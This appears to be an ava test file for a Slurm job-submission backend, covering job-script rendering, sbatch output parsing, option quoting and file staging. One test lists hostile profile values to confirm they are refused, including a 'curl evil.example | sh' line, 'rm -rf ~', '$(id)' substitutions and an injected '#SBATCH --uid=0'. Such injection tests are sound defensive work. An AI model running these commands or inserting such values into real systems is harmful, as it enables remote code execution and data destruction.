// The batch backend's submission, rendered and parsed: the job script from a profile or a
// batch_template, data fields that could inject refused, resources quoted for sbatch, sbatch's
// --parsable answer and ping's, and the files staged by one sh script.
import { spawnSync } from 'node:child_process';
import { gzipSync } from 'node:zlib';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';
import { renderJobScript, slurmResources, substitute, wallTime } from '../../adapters/slurm/jobScript.js';
import {
  compositeJobId,
  jobIdOf,
  parsePing,
  parseSbatch,
  stageScript,
  submitScript,
} from '../../adapters/slurm/slurmText.js';
import type { BatchRemoteDeployment } from '../../core/domain/profile.js';
import * as E from 'fp-ts/lib/Either.js';
import { ProfileInput } from '../../schema/api/profiles.js';
import { toIssues } from '../../schema/decode.js';

test('sbatch --parsable output, the composite id and ping output', (t) => {
  t.deepEqual(parseSbatch('1234\n'), { jobId: '1234' });
  t.deepEqual(parseSbatch('Submitted to a queue\n77;setonix\n'), { jobId: '77', cluster: 'setonix' });
  t.is(parseSbatch('sbatch: error: Invalid account\n'), null);
  const id = compositeJobId({ user: 'astro', host: 'setonix.pawsey.org.au', port: 22 }, '1234567');
  t.is(id, 'batch:astro@setonix.pawsey.org.au:22/1234567');
  t.is(jobIdOf(id), '1234567');
  t.is(jobIdOf('surveyor-x-a1'), null);
  const p = parsePing('@@version slurm-wlm 22.05.8\n@@dir writable /home/a\n@@dir missing /scratch/x y\n');
  t.is(p.version, 'slurm-wlm 22.05.8');
  t.deepEqual(
    [...p.dirs],
    [
      ['/home/a', 'writable'],
      ['/scratch/x y', 'missing'],
    ],
  );
});

const profile: BatchRemoteDeployment = {
  kind: 'batch_remote',
  login_node: 'setonix.pawsey.org.au',
  ssh_port: 22,
  account: 'pawsey0411',
  home_dir: '/home/astro',
  dlg_root: '/scratch/pawsey0411/astro/dlg',
  log_dir: '/scratch/pawsey0411/astro/dlg/log',
  modules: 'module load python/3.11',
  venv: 'source /software/dlg/venv/bin/activate',
  exec_prefix: 'srun -l',
  facility: 'setonix',
  job_duration_minutes: 135,
  num_nodes: 4,
  num_islands: 1,
  verbose_level: 2,
  max_threads: 8,
  all_nics: true,
  zerorun: false,
  sleepncopy: true,
  check_with_session: true,
};

test('the default job script carries every profile field', (t) => {
  const s = renderJobScript(profile, 'surveyor-e-a1');
  t.is(wallTime(135), '02:15:00');
  for (const line of [
    '#SBATCH --job-name=surveyor-e-a1',
    '#SBATCH --account=pawsey0411',
    '#SBATCH --nodes=4',
    '#SBATCH --time=02:15:00',
    '#SBATCH --output=/scratch/pawsey0411/astro/dlg/workspace/surveyor-e-a1/slurm-%j.out',
    'module load python/3.11',
    'source /software/dlg/venv/bin/activate',
    '# facility: setonix',
  ])
    t.true(s.includes(line), line);
  const run = s.split('\n').find((l) => l.includes('start_dlg_cluster'))!;
  t.true(run.startsWith('srun -l python3 -m dlg.deploy.start_dlg_cluster'));
  for (const arg of [
    "--log_dir '/scratch/pawsey0411/astro/dlg/log/surveyor-e-a1'",
    '--verbose-level 2',
    '--max-threads 8',
    '--app 1',
    '--num_islands 1',
    '--all_nics',
    '--check_with_session',
    "--ssid 'surveyor-e-a1'",
    '--remote-mechanism slurm',
    '--dump',
  ])
    t.true(run.includes(arg), arg);
  t.false(run.includes('--zerorun'));
  t.true(s.trimEnd().endsWith('"$surveyor_rc"'), 'the helper decides the exit status');
});

test('a batch_template is substituted like Template.safe_substitute, then the run block follows', (t) => {
  t.is(
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template syntax under test
    substitute('$ACCOUNT ${NUM_NODES}x $UNKNOWN $$', { ACCOUNT: 'a', NUM_NODES: '2' }),
    'a 2x $UNKNOWN $$',
  );
  const s = renderJobScript(
    {
      ...profile,
      batch_template: '#!/bin/bash\n#SBATCH --account=$ACCOUNT\n#SBATCH --time=$JOB_DURATION\n$MODULES\n',
    },
    'surveyor-e-a2',
  );
  t.true(
    s.startsWith(
      '#!/bin/bash\n#SBATCH --account=pawsey0411\n#SBATCH --time=02:15:00\nmodule load python/3.11\n',
    ),
  );
  t.true(s.includes('# ---- surveyor run block'));
  t.false(s.includes('--exclusive'), 'the template replaces the default preamble');
});

test('a profile whose data fields could inject into the job script is refused, stored or not', (t) => {
  const hostile: [Partial<BatchRemoteDeployment>, string][] = [
    [{ account: 'astro\ncurl https://evil.example/x | sh #' }, 'account'],
    [{ account: 'astro --exclusive=no' }, 'account'],
    [{ facility: 'setonix; rm -rf ~' }, 'facility'],
    [{ remote_user: 'astro$(id)' }, 'remote_user'],
    [{ home_dir: 'home/astro' }, 'home_dir'],
    [{ log_dir: '/scratch/../etc' }, 'log_dir'],
    [{ dlg_root: "/scratch/dlg'; touch /tmp/x; '" }, 'dlg_root'],
    [{ dlg_root: '/scratch/with space' }, 'dlg_root'],
    [{ partition: 'work --wrap=id' }, 'partition'],
    [{ partition: 'work,' }, 'partition'],
    [{ qos: 'high\n#SBATCH --uid=0' }, 'qos'],
    [{ memory: '4G; id' }, 'memory'],
    [{ memory: '-1' }, 'memory'],
    [{ memory: '4g' }, 'memory'],
    [{ constraint: 'gpu$(id)' }, 'constraint'],
    [{ constraint: "gpu' 'x" }, 'constraint'],
    [{ cpus_per_task: 0 }, 'cpus_per_task'],
    [{ cpus_per_task: 1.5 }, 'cpus_per_task'],
  ];
  for (const [change, field] of hostile) {
    const d = { ...profile, ...change };
    t.throws(() => renderJobScript(d, 'surveyor-e-a1'), { message: new RegExp(`profile's ${field}`) }, field);
    const r = ProfileInput.decode({ name: 'p', translation: {}, deployment: d });
    t.true(E.isLeft(r), field);
    if (E.isLeft(r))
      t.true(
        toIssues(r.left).some((i) => i.path === `deployment.${field}`),
        field,
      );
  }
  t.true(E.isRight(ProfileInput.decode({ name: 'p', translation: {}, deployment: profile })));
});

test("a profile's Slurm resources go on sbatch's command line, quoted, with or without a template", (t) => {
  t.deepEqual(slurmResources(profile), []);
  const d: BatchRemoteDeployment = {
    ...profile,
    partition: 'work,debug',
    qos: 'high',
    memory: '230G',
    constraint: '[rack1|rack2]&nvme',
    cpus_per_task: 64,
  };
  const options = slurmResources(d);
  t.deepEqual(options, [
    '--partition=work,debug',
    '--qos=high',
    '--mem=230G',
    '--constraint=[rack1|rack2]&nvme',
    '--cpus-per-task=64',
  ]);
  const r = ProfileInput.decode({ name: 'p', translation: {}, deployment: d });
  t.true(E.isRight(r), E.isLeft(r) ? JSON.stringify(toIssues(r.left)) : '');
  // Each option is one sh word: `&`, `|` and `[` reach sbatch as written, never the shell.
  t.is(
    submitScript({ workDir: '/home/a', scriptPath: '/s/job.sh', jobName: 'surveyor-e-a1', options }).split(
      '\n',
    )[1],
    "sbatch --parsable --no-requeue --job-name='surveyor-e-a1' '--partition=work,debug' '--qos=high' '--mem=230G' '--constraint=[rack1|rack2]&nvme' '--cpus-per-task=64' '/s/job.sh'",
  );
  t.is(
    submitScript({ workDir: '/home/a', scriptPath: '/s/job.sh', jobName: 'n' }).split('\n')[1],
    "sbatch --parsable --no-requeue --job-name='n' '/s/job.sh'",
  );
  // The script itself does not repeat them (sbatch's command line wins over #SBATCH lines).
  t.false(renderJobScript(d, 'surveyor-e-a1').includes('--partition'));
});

// Run by this machine's /bin/sh (dash on Debian, as on many login nodes): the files arrive whole,
// with their modes, whatever their bytes and names, and nothing half-written is left.
test('stageScript writes every file in one script: content, mode, awkward names, no .part left', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'stage-'));
  try {
    const session = join(dir, "it's a $dir");
    const big = JSON.stringify(Array.from({ length: 20_000 }, (_, i) => ({ oid: `d${i}`, text: 'é\n\t"' })));
    const files = [
      { path: join(session, 'graph.json'), content: Buffer.from(big), mode: 0o640 },
      { path: join(session, 'job.sh'), content: Buffer.from('#!/bin/sh\necho $HOME `x`\n'), mode: 0o750 },
      { path: join(session, 'empty'), content: Buffer.alloc(0), mode: 0o600 },
      { path: join(session, 'bytes'), content: Buffer.from([0, 255, 10, 13, 0x27]), mode: 0o640 },
    ];
    const script = stageScript(
      [session, join(dir, 'logs')],
      files.map((f) => ({ path: f.path, mode: f.mode, gzipBase64: gzipSync(f.content).toString('base64') })),
    );
    const r = spawnSync('/bin/sh', ['-s'], { input: script, encoding: 'utf8' });
    t.is(r.status, 0, r.stderr);
    for (const f of files) {
      t.deepEqual(readFileSync(f.path), f.content);
      t.is(statSync(f.path).mode & 0o777, f.mode);
    }
    t.true(existsSync(join(dir, 'logs')));
    t.deepEqual(readdirSync(session).sort(), ['bytes', 'empty', 'graph.json', 'job.sh']);
    // Again over what is there (a resumed attempt): replaced, same result.
    t.is(spawnSync('/bin/sh', ['-s'], { input: script }).status, 0);
    t.deepEqual(readFileSync(files[0]!.path), files[0]!.content);
    // A file it cannot create (its directory is not there): stops at once, saying which.
    const denied = spawnSync('/bin/sh', ['-s'], {
      input: stageScript(
        [join(dir, 'ro')],
        [{ path: join(dir, 'ro', 'x', 'f'), mode: 0o640, gzipBase64: '' }],
      ),
      encoding: 'utf8',
    });
    t.not(denied.status, 0);
    t.regex(denied.stderr, /ro\/x\/f\.part/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
